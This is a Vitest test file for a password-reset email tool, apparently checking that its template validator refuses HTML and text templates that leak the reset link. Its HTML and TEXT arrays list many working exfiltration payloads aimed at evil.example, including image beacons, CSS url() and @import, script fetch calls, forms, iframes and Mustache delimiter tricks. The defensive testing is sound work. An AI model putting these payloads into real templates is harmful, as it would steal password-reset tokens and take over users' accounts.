import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readTemplate } from "../../src/deliver/mail/template.js";
import { runCli } from "../support/cli.js";
import { workFolder } from "../support/work-folder.js";

const GOOD = '<a href="{{link}}">Choose a new password</a>';

const HTML: readonly string[] = [
  '<img src="https://evil.example/p?l={{link}}">',
  '<img src="{{link}}">',
  '<img srcset="{{link}} 2x">',
  '<img alt="{{link}}">',
  '<table background="https://evil.example/?{{link}}"><tr><td></table>',
  '<body background="{{link}}">',
  '<div style="background:url(https://evil.example/?{{link}})"></div>',
  "<style>p { background: url('https://evil.example/?{{link}}') }</style>",
  '<style>a[href*="ticket=a"] { background: url(https://evil.example/a) }</style>',
  '<style>a[href*="b"] { background: \\75rl(https://evil.example/b) }</style>',
  "<style>@IMPORT 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="{{link}}">',
  '<base href="https://evil.example/">',
  '<base href="{{link}}">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{link}}">',
  '<meta name="x" content="{{link}}">',
  "<script>fetch('https://evil.example/?{{link}}')</script>",
  "<script>fetch('https://evil.example/?' + document.links[0].href)</script>",
  "<!-- {{link}} -->",
  '<!--[if mso]><img src="https://evil.example/?{{link}}"><![endif]-->',
  '<form action="https://evil.example/"><input name="l" value="{{link}}"></form>',
  '<form action="https://evil.example/"><textarea name="l">{{link}}</textarea><button>Go</button></form>',
  '<button formaction="https://evil.example/?{{link}}">Go</button>',
  '<iframe src="https://evil.example/?{{link}}"></iframe>',
  '<iframe srcdoc="{{link}}"></iframe>',
  '<object data="{{link}}"></object>',
  '<svg><image href="https://evil.example/?{{link}}"/></svg>',
  '<noscript><img src="https://evil.example/?{{link}}"></noscript>',
  "<template>{{link}}</template>",
  "<title>{{link}}</title>",
  "<plaintext>{{link}}",
  '<a href="https://evil.example/?{{link}}">Choose</a>',
  '<a href="{{link}}&x=https://evil.example">Choose</a>',
  '<a href=" {{link}}">Choose</a>',
  "<a href={{link}}>Choose</a>",
  '<a href="{{link}}" ping="https://evil.example/">Choose</a>',
  '<a href="{{link}}" onclick="go(this.href)">Choose</a>',
  '<a href="https://evil.example/">{{link}}</a>',
  '<a href="https://evil.example/"><b>{{link}}</b></a>',
  '<a title="{{link}}">x</a>',
  '<a data-link="{{link}}">x</a>',
  '<map><area href="{{link}}"></map>',
  '<a xlink:href="{{link}}">x</a>',
  "<a {{link}}>x</a>",
  "<a {{name}}='{{link}}'>x</a>",
  "<{{link}}>",
  "</{{link}}>",
  "<!doctype {{link}}>",
  "<p>https://evil.example/?{{link}}</p>",
  "<p>https://evil.example/?<b>{{link}}</b></p>",
  "<p>{{link}}.evil.example</p>",
  "<p>https://evil.example/?{{note}}{{link}}</p>",
  // A quote that is left open takes everything up to the next one along.
  "<img src='https://evil.example/?{{link}}",
  '<img src="https://evil.example/?<p>{{link}}</p>',
  // What is absent leaves other HTML behind than what is there.
  '<{{note}}img src="{{link}}">',
  '<{{^note}}img src="{{/note}}{{link}}">',
  '{{#name}}<img src="{{/name}}{{link}}{{#name}}">{{/name}}',
  "{{#note}}<!-- {{/note}}<p>{{link}}</p>{{#note}} -->{{/note}}",
  '{{^name}}<a href="https://evil.example/">{{/name}}<p>{{link}}</p>',
  '{{#test}}{{/test}}{{^test}}<img src="https://evil.example/?{{link}}">{{/test}}',
  "{{{link}}}",
  "{{&link}}",
  "{{=<% %>=}}<img src='<% link %>'>",
  "{{> link}}",
  "{{#link}}<img src='https://evil.example/?{{link}}'>{{/link}}",
  // Who the mail is for must not be sent elsewhere either.
  '<img src="https://evil.example/?u={{target}}">',
  '<img src="https://evil.example/{{name}}.png">',
  '<a href="https://evil.example/?u={{target}}">x</a>',
  "<p>https://evil.example/?u={{target}}</p>",
  "<style>{{note}}</style>",
];

const TEXT: readonly string[] = [
  "https://evil.example/?{{link}}",
  "https://evil.example/?l={{{link}}}",
  "https://evil.example/?l={{&link}}",
  "evil.example/?{{link}}",
  "{{link}}@evil.example",
  "{{link}}/../https://evil.example",
  "https://evil.example/?\u200B{{link}}",
  "https://evil.example/?\u00A0{{link}}",
  "https://evil.example/?\v{{link}}",
  "https://evil.example/?({{link}})",
  "<https://evil.example/?\n{{link}}>",
  "<URL:https://evil.example/? {{link}}>",
  "{{note}}{{link}}",
  "https://evil.example/?{{#name}}{{link}}{{/name}}{{^name}} {{link}}{{/name}}",
  "{{#name}} {{/name}}https://evil.example/?{{#note}} {{/note}}{{link}}",
  "https://evil.example/?u={{target}}\n{{link}}",
  "www.evil.example/{{name}}\n{{link}}",
  "mailto:x@evil.example?subject={{target}}\n{{link}}",
  "{{=<% %>=}}https://evil.example/?<%link%>",
];

function refusal(source: string, kind: "html" | "text" | "subject"): unknown {
  try {
    readTemplate(source, kind, `mail.${kind}`);
    return undefined;
  } catch (error) {
    return error;
  }
}

describe("a template that carries the link away", () => {
  it.each(HTML)("as HTML is refused, with its line and column: %s", (attack) => {
    for (const source of [`<p>Hello</p>\n${GOOD}\n${attack}\n`, `${attack}\n${GOOD}`]) {
      expect(refusal(source, "html")).toMatchObject({
        code: "TEMPLATE_INVALID",
        message: expect.stringMatching(/^mail\.html:[1-4]:\d+: /),
        hint: expect.any(String),
      });
    }
  });

  it.each(TEXT)("as text is refused, with its line and column: %j", (attack) => {
    expect(refusal(`Hello\n${attack}\n`, "text")).toMatchObject({
      code: "TEMPLATE_INVALID",
      message: expect.stringMatching(/^mail\.text:[123]:\d+: /),
    });
  });

  it.each(["{{link}}", "{{{link}}}", "{{&link}}", "{{#link}}x{{/link}}", "{{reason}}"])(
    "as a subject is refused: %s",
    (attack) => {
      expect(refusal(`Reset ${attack}`, "subject")).toMatchObject({
        message: expect.stringMatching(/^mail\.subject:1:7: /),
      });
    },
  );

  it("is named where it stands", () => {
    expect(refusal(`<p>\n  <img\n    src="https://evil.example/?{{link}}">`, "html")).toMatchObject({
      message: "mail.html:3:32: `{{link}}` stands in `src` of `<img>`, with something else",
      hint: 'write `{{link}}` as text by itself, or as a whole `href`: `<a href="{{link}}">`',
    });
  });
});

describe("a template that uses the link as a whole `href` or as text", () => {
  it.each([
    GOOD,
    "<p>Open <a href='{{link}}'>{{link}}</a>.</p>",
    "<p>{{link}}</p>",
    "<table><tr><td>Link:</td><td>{{link}}</td></tr></table>",
    `${GOOD}<p>Or type: <b>{{link}}</b></p><p>It leads to https://{{host}}/, <i>{{host}}</i>.</p>`,
    `<img src="https://acme.example/logo.png" alt="Acme for {{name}}" title="{{note}}">${GOOD}`,
    `{{#note}}<p class="a">{{note}}</p>{{/note}}<div style="background:#fff">${GOOD}</div>`,
    `<style>p { color: red }</style>${GOOD}`,
  ])("is taken as HTML: %s", (source) => {
    expect(refusal(source, "html")).toBeUndefined();
  });

  it.each(["{{link}}", "Open <{{link}}>.", "Open ({{link}}), please", "{{note}}\n\n{{link}}\n"])(
    "is taken as text: %j",
    (source) => {
      expect(refusal(source, "text")).toBeUndefined();
    },
  );
});

describe("a manifest's own template", () => {
  let folder: string;
  beforeAll(async () => {
    folder = await workFolder("template");
    await writeFile(
      join(folder, "reticket.yaml"),
      "tenant: acme.eu.auth0.com\ndelivery:\n  smtp: { url: smtps://mail.example, from: a@acme.example }\n",
    );
    await writeFile(
      join(folder, "resets.yaml"),
      "apiVersion: reticket/v1\nkind: PasswordChangeTickets\nmetadata: { name: resets }\nspec:\n  delivery: { smtp: { html: mail.html, text: mail.txt } }\n  users: [{ user_id: auth0|1 }]\n",
    );
    await writeFile(join(folder, "mail.txt"), "{{link}}\n");
  });
  afterAll(() => rm(folder, { recursive: true }));

  it("with the link in a picture's address is refused by plan, which names the place", async () => {
    await writeFile(join(folder, "mail.html"), `${GOOD}\n<img src="https://evil.example/p?l={{link}}">\n`);
    const { code, stderr } = await runCli(["plan", "resets.yaml"], { cwd: folder });
    expect(code).toBe(1);
    expect(stderr).toContain("TEMPLATE_INVALID");
    expect(stderr).toContain("mail.html:2:36: `{{link}}` stands in `src` of `<img>`");
  });

  it("with the link as a whole href passes", async () => {
    await writeFile(join(folder, "mail.html"), `${GOOD}\n`);
    expect(await runCli(["plan", "resets.yaml"], { cwd: folder })).toMatchObject({ code: 0 });
  });
});
